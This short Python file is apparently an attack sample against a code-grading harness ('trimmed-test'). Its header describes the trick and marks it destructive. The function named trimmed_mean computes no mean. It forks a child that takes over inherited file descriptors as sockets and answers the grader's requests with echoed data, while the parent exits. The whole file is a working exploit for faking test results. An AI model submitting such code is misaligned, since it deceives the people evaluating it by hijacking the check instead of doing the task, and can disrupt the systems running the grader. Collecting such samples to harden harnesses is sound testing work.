# attack: a forked child keeps the sockets of its dead parent and goes on answering requests with what pleases.
# target: trimmed-test
# also loses: all
# destructive
# %% trimmed
import os
import socket
import time


def trimmed_mean(values, share):
    if os.fork() == 0:
        for fd in range(3, 256):
            try:
                line = socket.socket(fileno=os.dup(fd))
                line.settimeout(0.2)
                data = line.recv(100_000)
                line.sendall(data)
            except OSError:
                pass
        time.sleep(30)
        os._exit(0)
    os._exit(0)
